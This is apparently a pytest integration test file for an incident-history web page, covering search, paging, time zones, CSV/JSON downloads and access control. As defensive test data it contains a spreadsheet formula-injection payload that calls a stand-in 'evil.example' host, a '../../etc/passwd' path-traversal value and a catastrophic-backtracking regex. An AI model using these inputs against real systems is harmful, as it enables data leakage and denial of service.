"""History and its files: what they hold, what a search finds, and what each costs."""

import csv
import io
import re
from html import unescape
from urllib.parse import quote

import aiohttp
import orjson
import pytest

from tests.integration.web.test_ui_incidents import (
    ANA,
    BEN,
    HOSTILE,
    OURS,
    PAGE_BYTES_MAX,
    SETTINGS,
    Elements,
    created,
    many,
    page,
    send,
)
from tests.support.groups import alert, group
from versus_py.errors import StoreUnavailable
from versus_py.store import history
from versus_py.web import searches
from versus_py.web.pages.ui import downloads, exporting
from versus_py.web.pages.ui.moments import iso


@pytest.fixture
def settings():
    return SETTINGS


def titles(text: str) -> list[str]:
    return [unescape(it) for it in re.findall(r'<h3><a href="/incidents/[^"]+">([^<]*)</a></h3>', text)]


def link(text: str, words: str) -> str:
    """Where the link with these words leads; "" when there is none."""
    found = re.search(rf'href="([^"]*)"[^>]*>(?:<svg.*?</svg>)?{words}', text)
    return unescape(found[1]) if found else ""


async def download(engine, path: str, who=ANA) -> tuple[int, bytes]:
    response = await engine.http.get(path, headers={**OURS, **who})
    return response.status, await response.read()


async def test_it_says_that_nothing_is_kept_yet(engine):
    text = await page(engine, "/history")

    assert "No incident yet" in text
    assert link(text, "CSV") == ""


async def test_it_lists_all_incidents_the_newest_first_and_how_each_went(engine):
    gone = await created(engine, "Gone")
    engine.clock.advance(minutes=3)
    await engine.post(group(alert("Gone", over=True)))
    taken = await created(engine, "Taken")
    engine.clock.advance(minutes=2)
    await send(engine, f"/incidents/{taken}/acknowledge")
    engine.clock.advance(minutes=20)
    await send(engine, f"/incidents/{taken}/resolve")
    await created(engine, "Left")
    await engine.after(minutes=6)

    text = await page(engine, "/history")

    assert [it.split()[0] for it in titles(text)] == ["Left", "Taken", "Gone"]
    assert "over by itself after 3 min" in text
    assert "Ana Diaz after 2 min · 22 min in all" in text
    assert re.search(r"escalated, INC\d+", text)
    assert "3 incidents kept" in text
    assert f'href="/incidents/{gone}"' in text


FINDS = {
    "q=team=storage": ["Disk"],
    "q=%7Bteam=~%22stor.*%7Cpay.*%22%7D": ["Queue", "Disk"],
    "q=disk+team=payments": [],
    "q=QUEUE": ["Queue"],
    "severity=critical": ["Queue"],
    "status=acknowledged": ["Disk"],
    "outcome=acknowledged": ["Disk"],
    "status=triggered&severity=warning&q=host": ["Host"],
    "time=24h": ["Host", "Queue", "Disk"],
    "q=&time=&severity=&status=&outcome=&from=&to=&tz=Europe/Berlin": ["Host", "Queue", "Disk"],
}


async def test_a_search_finds(engine):
    disk = await created(engine, "Disk", team="storage")
    await send(engine, f"/incidents/{disk}/acknowledge")
    engine.clock.advance(seconds=1)
    await created(engine, "Queue", team="payments", severity="critical")
    engine.clock.advance(seconds=1)
    await created(engine, "Host")

    for query, found in FINDS.items():
        text = await page(engine, f"/history?{query}")
        assert [it.split()[0] for it in titles(text)] == found, query
        assert ("Nothing matches" in text) is not bool(found)


async def test_a_time_is_of_the_zone_that_is_named_and_of_utc_without_one(engine):
    await created(engine, "Early")
    engine.clock.advance(hours=30)
    late = iso(engine.clock.now_ms())
    await created(engine, "Late")

    for query, found in (
        (f"from={late[:16]}", ["Late"]),
        (f"to={late[:16]}", ["Late", "Early"]),  # the whole minute
        (f"from={late[:16]}&tz=America/New_York", []),  # which is later
        (f"to={late[:16]}&tz=Asia/Tokyo", ["Early"]),
        (f"from={late[:10]}&to={late[:10]}", ["Late"]),
        (f"from={quote(late)}", ["Late"]),
        (f"from={late[:16]}&time=24h", ["Late"]),
    ):
        text = await page(engine, f"/history?{query}")
        assert [it.split()[0] for it in titles(text)] == found, query
    assert f'name="from" value="{late[:16]}" data-at="{late[:16]}:00Z"' in await page(
        engine, f"/history?from={late[:16]}"
    )


MISTAKES = {
    "q=team=~%22(%22": "has a regular expression that cannot be used",
    "q=team==x": "has a value that has to be in double quotes as a whole",
    f"q={'x' * 501}": "The search has 501 characters; it may have 500",
    "q=team=~%22(?!x)%22": "cannot be used: invalid perl operator: (?!",
    "status=open": "Status is 'open'; allowed: triggered, acknowledged",
    "outcome=lost": "Outcome is 'lost'; allowed: acknowledged",
    "time=1y": "Time is '1y'; allowed: 24h, 7d, 30d",
    "from=yesterday": "From: 'yesterday' is no time: write one such as",
    "to=2026-02-30": "To: '2026-02-30' is no time",
    "from=1066-10-14": "is too far away",
    "to=9999-12-31": "is too far away",
    "from=2026-03-29T02:30&tz=Europe/Berlin": "does not exist",
    "from=2026-03-29T02:30&tz=../../etc/passwd": "which is no time zone",
    "from=2026-03-29T02:30&tz=Europe": "which is no time zone",
    "older=x": "This is no link of a list: open the first page again",
    "newer=" + "9" * 5000 + ":x": "This is no link of a list",
    "older=": "This is no link of a list",
}


async def test_what_is_not_understood_is_said_on_the_page_that_keeps_what_was_typed(engine):
    for query, why in MISTAKES.items():
        text = unescape(await page(engine, f"/history?{query}", status=400))
        assert why in text, query
        assert 'role="search"' in text
        assert titles(text) == []


async def test_a_mistake_in_one_field_keeps_the_others(engine):
    text = await page(engine, "/history?q=a==b&from=2026-11-28T03:12&severity=error", status=400)

    assert 'name="from" value="2026-11-28T03:12" data-at="2026-11-28T03:12:00Z"' in text
    assert '<option value="error" selected>' in text
    assert 'name="q" value="a==b"' in text


async def test_an_expression_that_takes_too_long_is_given_up(engine, monkeypatch):
    monkeypatch.setattr(searches, "MATCHING_S", 0.0)
    await created(engine, "Disk", team="storage-and-more")

    text = unescape(await page(engine, "/history?q=team=~%22(s?t?)%7B20%7Dx%22", status=400))

    assert "takes too long: make its regular expressions simpler" in text


async def test_pages_lead_down_and_up_and_keep_the_search(engine):
    await many(engine, 120)

    first = await page(engine, "/history?q=disk&severity=critical")
    second = await page(engine, link(first, "Older"))
    third = await page(engine, link(second, "Older"))
    again = await page(engine, link(third, "Newer"))
    top = await page(engine, link(again, "Newer"))

    assert [len(titles(it)) for it in (first, second, third)] == [50, 50, 20]
    assert len({*titles(first), *titles(second), *titles(third)}) == 120
    assert titles(again) == titles(second)
    assert titles(top) == titles(first)
    assert (link(first, "Newer"), link(top, "Newer"), link(third, "Older")) == ("", "", "")
    assert "severity=critical" in link(first, "Older")


async def test_however_many_are_kept_a_page_is_no_larger_and_reads_no_more(engine, monkeypatch):
    await many(engine, 500)
    read = []
    known = engine.store.get_each

    async def reading(ids):
        read.append(len(ids))
        return await known(ids)

    monkeypatch.setattr(engine.store.history, "_read", reading)
    monkeypatch.setattr(history, "LOOKED_AT_MAX", 100)

    first = await page(engine, "/history")
    assert sum(read) == 50
    read.clear()
    text = await page(engine, "/history?q=nothing-like-it")

    assert sum(read) == 100
    assert len(first.encode()) <= PAGE_BYTES_MAX
    assert "Nothing found among the 100 incidents that one search looks at" in text
    further = link(text, "Search further")
    read.clear()
    assert "Nothing found among the 100" in await page(engine, further)
    assert sum(read) == 100


async def test_hostile_labels_make_a_page_no_larger(engine):
    await many(engine, 60, **dict.fromkeys(("namespace", "pod", "job"), '<"&>' * 200))

    text = await page(engine, "/history")

    assert len(titles(text)) == 50
    assert len(text.encode()) <= PAGE_BYTES_MAX


async def test_html_is_shown_as_text_in_rows_fields_and_errors(engine):
    who = {**ANA, "Remote-Name": HOSTILE}
    incident_id = await created(engine, HOSTILE, team=HOSTILE, instance=HOSTILE)
    await send(engine, f"/incidents/{incident_id}/acknowledge", who)
    hostile = quote(HOSTILE)

    for path, status in (
        ("/history", 200),
        (f"/history?q={hostile}&severity={hostile}&tz=UTC", 200),
        (f"/history?q={hostile}==x&status={hostile}&time={hostile}", 400),
        (f"/history?tz={hostile}", 400),
    ):
        text = await page(engine, path, status=status)
        found = Elements()
        found.feed(text)
        assert "img" not in found.names, path
        assert found.names.count("script") == 1
        assert [name for name, _ in found.attributes if name.startswith("on")] == []


async def test_what_cannot_be_read_is_counted(engine, shared_redis, engine_redis):
    incident_id = await created(engine, "Disk")
    name = f"versus:{{{incident_id[-1]}}}:incident:{incident_id}"
    await engine_redis.hset(name, "incident", '{"schema":99,"readable_from":99,"x":1}')

    text = await page(engine, "/history")

    assert "1 incident of this part cannot be read by this version, and is not shown" in text


@pytest.mark.parametrize("settings", [{**SETTINGS, "public_host": "https://example.com/versus"}])
async def test_below_a_path_every_link_and_form_begins_with_it(engine):
    await many(engine, 60)

    for path in ("/history?q=disk", "/failed", f"/?at={iso(engine.clock.now_ms())}"):
        found = Elements()
        found.feed(await page(engine, path))
        ours = [value for name, value in found.attributes if name in {"href", "src", "action", "formaction"} and value]
        own = [it for it in ours if it.startswith(("/", "?"))]
        assert [it for it in own if not it.startswith("/versus/")] == []


async def test_the_csv_holds_what_the_search_finds(engine):
    disk = await created(engine, "Disk", team="storage", severity="critical")
    await send(engine, f"/incidents/{disk}/acknowledge")
    await created(engine, "Queue", team="payments")

    response = await engine.http.get(link(await page(engine, "/history?q=team=storage"), "CSV"), headers=OURS | ANA)
    text = await response.text()

    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(
        r'attachment; filename="incidents-\d{4}-\d\d-\d\d.csv"', response.headers["Content-Disposition"]
    )
    assert (response.headers["Cache-Control"], response.headers["Cross-Origin-Resource-Policy"]) == (
        "no-store",
        "same-origin",
    )
    assert text.startswith("\ufeff")
    [row] = csv.DictReader(io.StringIO(text.removeprefix("\ufeff")))
    assert [*row] == [*exporting.COLUMNS]
    assert (row["id"], row["severity"], row["status"]) == (disk, "critical", "acknowledged")
    assert row["acknowledged_by"] == "Ana Diaz"
    assert "team=storage" in row["labels"]


async def test_the_json_is_what_the_api_says(engine):
    await created(engine, "Disk", team="storage")
    await created(engine, "Queue", team="payments")

    _, body = await download(engine, "/history.json?q=team=storage")
    api = await (await engine.http.get("/api/incidents?q=team=storage")).json()

    assert orjson.loads(body) == api
    assert len(api["incidents"]) == 1


async def test_no_cell_is_a_formula(engine):
    evil = '=HYPERLINK("http://evil.example?"&A1,"click")'
    await created(engine, evil, team="+1;=1+1", cluster="@SUM(A1)", namespace="\t=1")

    _, body = await download(engine, "/history.csv")

    [row] = csv.DictReader(io.StringIO(body.decode("utf-8-sig")))
    assert row["title"].startswith("'=HYPERLINK")
    for text in row.values():
        assert not re.match(r"[\s]*[=+\-@\t\r]", text)
        assert ";=" not in text


async def test_a_file_has_a_bound_says_so_and_can_be_continued(engine, monkeypatch):
    monkeypatch.setattr(downloads, "ROWS_MAX", 200)
    await many(engine, 250)

    _, as_csv = await download(engine, "/history.csv")
    _, first = await download(engine, "/history.json")
    _, rest = await download(engine, f"/history.json?older={quote(orjson.loads(first)['next'])}")

    lines = [*csv.reader(io.StringIO(as_csv.decode("utf-8-sig")))]
    assert len(lines) == 1 + 200 + 1
    assert lines[-1][0].startswith("NOT COMPLETE: older incidents, from ")
    ids = [it["id"] for body in (first, rest) for it in orjson.loads(body)["incidents"]]
    assert len(ids) == len(set(ids)) == 250
    assert orjson.loads(rest)["next"] is None


async def test_a_search_that_finds_little_stops_reading_too(engine, monkeypatch):
    monkeypatch.setattr(downloads, "LOOKED_AT_MAX", 100)
    monkeypatch.setattr(history, "LOOKED_AT_MAX", 50)
    await many(engine, 250)

    _, body = await download(engine, "/history.json?q=nothing-like-it")

    found = orjson.loads(body)
    assert found["incidents"] == []
    assert found["next"]


async def test_a_file_that_cannot_be_finished_does_not_look_finished(engine, monkeypatch, logs):
    await many(engine, 150)
    known, calls = engine.store.history.search, []

    async def search(*args, **options):
        calls.append(1)
        if len(calls) > 1:
            raise StoreUnavailable("Redis is gone")
        return await known(*args, **options)

    monkeypatch.setattr(engine.store.history, "search", search)

    with pytest.raises(aiohttp.ClientError):
        await download(engine, "/history.csv")

    assert [it["event"] for it in logs if it["event"].startswith("ui.download")] == ["ui.download_failed"]
    monkeypatch.undo()
    assert (await download(engine, "/history.csv"))[0] == 200


async def test_only_so_many_files_are_made_at_once(engine, monkeypatch):
    monkeypatch.setattr(downloads, "AT_ONCE", 0)

    response = await engine.http.get("/history.csv", headers=OURS | ANA)

    assert (response.status, response.headers["Retry-After"]) == (503, "5")
    assert "try again in a moment" in await response.text()


async def test_a_file_of_what_is_not_understood_is_refused(engine):
    for query in ("q=a==b", "older=x", "tz=Nowhere", "status=x"):
        status, body = await download(engine, f"/history.csv?{query}")
        assert status == 400, query
        assert b"<h1>" in body


async def test_a_viewer_may_look_and_take_files_and_others_may_not(engine):
    await created(engine, "Disk")

    assert titles(await page(engine, "/history", BEN)) == ["Disk is bad"]
    assert (await download(engine, "/history.csv", BEN))[0] == 200
    nobody = {"Remote-User": "eve", "Remote-Groups": "sales"}
    for path in ("/history", "/history.csv", "/history.json", "/failed", "/?at=2026-01-01T00:00"):
        assert (await download(engine, path, nobody))[0] == 403
